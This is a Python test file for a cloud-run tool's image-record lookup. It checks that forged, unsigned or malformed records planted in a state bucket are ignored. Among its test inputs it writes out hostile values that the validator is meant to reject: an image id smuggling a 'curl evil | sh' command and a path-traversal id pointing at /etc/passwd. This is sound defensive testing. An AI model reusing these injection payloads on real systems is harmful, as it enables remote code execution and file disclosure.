"""Cloud runs pick up a prepared image by their lock (issue 20): the apply side.

A cloud run's lock is the SHA-256 of its bundle's ``requirements.lock``
(:func:`ephemera.bundle.image.cloud_lock_sha256`, recorded in the bundle's manifest). A
record of that lock, of the kind the stack's spec names (``prepared_image``), gives the
stack ``image_id = <id>`` and ``custom_image = true``, names the image in each VM's boot
document (the environment and the lock to check) and in the run record's
``bundle.image``. The user's own image variables win; a record of another kind or a
malformed one is ignored with a warning; a changed lock finds no record.

The attack: a record planted in the state bucket naming someone else's image id (a
public AMI its publisher controls). The image is the VMs' whole disk and they would get
the boot document (the run key), so no check on the VM can help: a cloud record must be
signed with the controller's signing key (:mod:`ephemera.runkeys`), which never enters
the bucket. An unsigned record, one signed with another key, or a signed one whose id was
edited afterwards is ignored with a warning. Besides, the id must have the stack's cloud
format and the record must be of that cloud, so no path, script or other cloud's image
gets through.
"""

from __future__ import annotations

import base64
import json
import logging
import shutil

import pytest

from ephemera import layout
from ephemera.assembly import get_storage, load_config
from ephemera.bundle.image import (
    ImageRecord,
    find_image,
    image_variables,
    put_record,
    record_signature,
    run_lock_sha256,
)
from ephemera.bundle.store import BundleRef, publish_config_bundle
from ephemera.context import Context
from ephemera.runkeys import signing_key
from ephemera.stack import stack_spec
from tests.ibm.conftest import cos_config, deployed, iam, ibm_config, schematics  # noqa: F401 - the IBM fakes' fixtures

actions_apply = pytest.importorskip("ephemera.actions.apply")

IBM_ID = "r006-11111111-2222-3333-4444-555555555555"
AMI = "ami-0123456789abcdef0"
LOCK = "c" * 64
REF = BundleRef(key="k", sha256="b" * 64, size=1, wheel="ephemera-0.1.0-py3-none-any.whl", locked=True, lock_sha256=LOCK)


def _record(kind: str, image_id: str, stack: str, lock: str = LOCK) -> ImageRecord:
    return ImageRecord(
        id=image_id, kind=kind, stack=stack, lock_sha256=lock, built_at="2026-12-07T00:00:00+00:00", python="3.12", size=1
    )


@pytest.fixture
def aws_config(local_config, tmp_path):
    """An aws-ec2-gpu config whose state bucket is the localhost storage (the records' home
    here; the lookup and the variables do not depend on the storage)."""
    return lambda **variables: load_config(
        local_config(workspace={"name": "gpu", "stack": "aws-ec2-gpu", "variables": variables})
    )


def test_the_specs_name_the_image_variables_and_they_exist():
    for name, kind in (("aws-ec2-gpu", "aws"), ("ibm-vpc-gpu", "ibm")):
        spec = stack_spec(name)
        image = spec.prepared_image
        assert image is not None and image.kind == kind
        assert spec.variables[image.variable].type == "string" and spec.variables[image.flag].type == "bool"
    assert stack_spec("local").prepared_image is None


def test_an_aws_run_of_a_recorded_lock_gets_the_ami_and_custom_image(aws_config):
    config = aws_config()
    ctx = Context(config)
    assert run_lock_sha256(config, REF) == LOCK
    put_record(ctx.storage, config.state_bucket, _record("aws", AMI, "aws-ec2-gpu"), signing_key(config))
    record = find_image(config, ctx.storage, REF)
    assert record is not None and record.id == AMI
    assert image_variables(config, record) == {"image_id": AMI, "custom_image": True}


def test_a_changed_lock_finds_no_image(aws_config):
    config = aws_config()
    ctx = Context(config)
    put_record(ctx.storage, config.state_bucket, _record("aws", AMI, "aws-ec2-gpu"), signing_key(config))
    other = BundleRef(**{**REF.to_dict(), "lock_sha256": "d" * 64})
    assert find_image(config, ctx.storage, other) is None
    unlocked = BundleRef(**{**REF.to_dict(), "lock_sha256": None})  # a bundle published before locks were hashed
    assert run_lock_sha256(config, unlocked) is None and find_image(config, ctx.storage, unlocked) is None


@pytest.mark.parametrize("variables", [{"image_id": "ami-0fedcba9876543210"}, {"custom_image": False}, {"image": "dlami-base"}])
def test_the_users_own_image_variables_win(aws_config, variables, caplog):
    config = aws_config(**variables)
    ctx = Context(config)
    put_record(ctx.storage, config.state_bucket, _record("aws", AMI, "aws-ec2-gpu"), signing_key(config))
    with caplog.at_level(logging.INFO, logger="ephemera.image"):
        assert find_image(config, ctx.storage, REF) is None
    # (not the AMI id: a log scrubber another test left installed may mask part of it)
    assert f"of lock {LOCK[:12]} not used: the run's variables {next(iter(variables))}" in caplog.text


def test_a_stack_given_as_a_folder_keeps_its_images_under_the_folders_name(local_config, tmp_path):
    """``workspace.stack`` may be a folder path (a user's copy of a stack): its records are
    kept under the folder's name, and looking one up never fails the run."""
    folder = tmp_path / "stacks" / "aws-ec2-gpu"
    shutil.copytree(stack_spec("aws-ec2-gpu").folder, folder)
    config = load_config(local_config(workspace={"name": "gpu", "stack": str(folder)}))
    ctx = Context(config)
    assert find_image(config, ctx.storage, REF) is None
    put_record(ctx.storage, config.state_bucket, _record("aws", AMI, "aws-ec2-gpu"), signing_key(config))
    assert find_image(config, ctx.storage, REF).id == AMI


def test_a_record_of_another_clouds_kind_is_ignored_with_a_warning(aws_config, caplog):
    config = aws_config()
    ctx = Context(config)
    put_record(ctx.storage, config.state_bucket, _record("ibm", IBM_ID, "aws-ec2-gpu"), signing_key(config))
    with caplog.at_level(logging.WARNING, logger="ephemera.image"):
        assert find_image(config, ctx.storage, REF) is None
    assert "it is a ibm image, and the stack aws-ec2-gpu boots aws images" in caplog.text
    assert image_variables(config, _record("ibm", IBM_ID, "aws-ec2-gpu")) == {}


@pytest.mark.parametrize(
    "forge",
    [
        lambda config, record: record.to_dict(),  # unsigned
        lambda config, record: {**record.to_dict(), "signature": record_signature("0" * 64, record)},  # another key
        lambda config, record: {  # signed, then pointed at someone else's AMI
            **record.to_dict(),
            "signature": record_signature(signing_key(config), record),
            "id": "ami-0badbadbadbadbad0",
        },
    ],
    ids=["unsigned", "other-key", "edited-id"],
)
def test_a_planted_record_naming_someone_elses_image_is_not_booted(aws_config, caplog, forge):
    config = aws_config()
    ctx = Context(config)
    raw = forge(config, _record("aws", AMI, "aws-ec2-gpu"))
    ctx.storage.put(config.state_bucket, layout.image_key("aws-ec2-gpu", LOCK), json.dumps(raw).encode())
    with caplog.at_level(logging.WARNING, logger="ephemera.image"):
        assert find_image(config, ctx.storage, REF) is None
    assert "not signed with this controller's signing key" in caplog.text


@pytest.mark.parametrize(
    "planted",
    [
        {"id": "ami-../../etc/passwd"},  # not an AMI id
        {"id": "ami-0123456789abcdef0\nrunc: curl evil | sh"},
        {"kind": "local", "id": "local-0123456789ab"},  # a local record (a path) on a cloud stack
        {"format": 2},
    ],
)
def test_a_planted_malformed_record_is_ignored_with_a_warning(aws_config, caplog, planted):
    config = aws_config()
    ctx = Context(config)
    raw = {**_record("aws", AMI, "aws-ec2-gpu").to_dict(), **planted}
    ctx.storage.put(config.state_bucket, layout.image_key("aws-ec2-gpu", LOCK), json.dumps(raw).encode())
    with caplog.at_level(logging.WARNING, logger="ephemera.image"):
        assert find_image(config, ctx.storage, REF) is None
    assert "not used" in caplog.text and "the VMs install the stock way" in caplog.text


def test_an_ibm_apply_of_a_recorded_lock_boots_the_image(cos_config, schematics):  # noqa: F811 - the imported fixtures
    """Through the Schematics fake, as a deployed action applies: the workspace's variables
    carry ``image_id`` and ``custom_image = true``, each VM's boot document names the image's
    environment and lock, and the run record's ``bundle.image`` names the image."""
    cfg = {**cos_config, "workspace": {"name": "gpu", "stack": "ibm-vpc-gpu", "variables": {"worker_count": 1}}}
    config = load_config(cfg)
    storage = get_storage(config)
    ref = publish_config_bundle(config, storage)
    assert ref.lock_sha256 and len(ref.lock_sha256) == 64
    put_record(storage, config.state_bucket, _record("ibm", IBM_ID, "ibm-vpc-gpu", ref.lock_sha256), signing_key(config))
    bound = deployed(cfg)
    applied = actions_apply.main({"config": bound, "ephemera_kind": "manual"})
    assert "error" not in applied, applied
    store = {v["name"]: v for v in schematics.calls("PUT", "/values")[0].body["variablestore"]}
    assert store["image_id"]["value"] == IBM_ID and store["custom_image"]["value"] in (True, "true")
    docs = [json.loads(base64.b64decode(d)) for d in json.loads(store["vm_boot"]["value"])]
    assert docs[0]["image"] == {
        "id": IBM_ID,
        "path": None,
        "site": None,
        "digest": None,
        "env": "/opt/ephemera/image/env",
        "lock_sha256": ref.lock_sha256,
    }
    record = Context(load_config(bound)).ledger.get(applied["run_id"])
    assert record.bundle["image"] == IBM_ID and record.bundle["lock_sha256"] == ref.lock_sha256


def test_runs_show_names_the_image_and_the_vms_that_could_not_use_it(local_config):
    from ephemera.cli.runs import run_details
    from ephemera.model.runs import RunRecord

    ctx = Context(load_config(local_config()))
    ctx.storage.create_bucket(ctx.config.state_bucket)
    bundle = {**REF.to_dict(), "image": AMI, "requirements": ["numpy==2.2.6"]}
    ctx.ledger.create(RunRecord(run_id="ws-1", workspace="ws", engine="terraform", bundle=bundle))
    vms = [
        {"worker": 0, "phases": {"booted": "2026-12-07T00:00:00+00:00", "image_used": "2026-12-07T00:00:01+00:00"}},
        {"worker": 1, "phases": {"booted": "2026-12-07T00:00:00+00:00", "image_rejected": "2026-12-07T00:00:01+00:00"}},
    ]
    ctx.ledger.update("ws-1", lambda r: setattr(r, "vms", vms))
    details = run_details(ctx, ctx.ledger.get("ws-1"))
    assert f"image: {AMI} (prepared from the bundle's lock" in details
    assert "not usable on vm1, which installed the stock way" in details and "vm0," not in details
    ctx.ledger.update("ws-1", lambda r: setattr(r, "bundle", {**bundle, "image": None}))
    assert "image: none (stock install" in run_details(ctx, ctx.ledger.get("ws-1"))


def test_a_capacity_ladder_rung_that_pins_an_image_wins_too(aws_config, caplog):
    """A rung of ``workspace.fallback`` is the user's choice for that apply: the apply passes
    the rung's variables over ``workspace.variables`` (lifecycle.activities._apply)."""
    config = aws_config()
    ctx = Context(config)
    put_record(ctx.storage, config.state_bucket, _record("aws", AMI, "aws-ec2-gpu"), signing_key(config))
    assert find_image(config, ctx.storage, REF, {"instance_type": "g6.2xlarge"}).id == AMI
    with caplog.at_level(logging.INFO, logger="ephemera.image"):
        assert find_image(config, ctx.storage, REF, {"instance_type": "g6.2xlarge", "image_id": "ami-0fedcba9876543210"}) is None
    assert "the run's variables image_id choose the boot image" in caplog.text
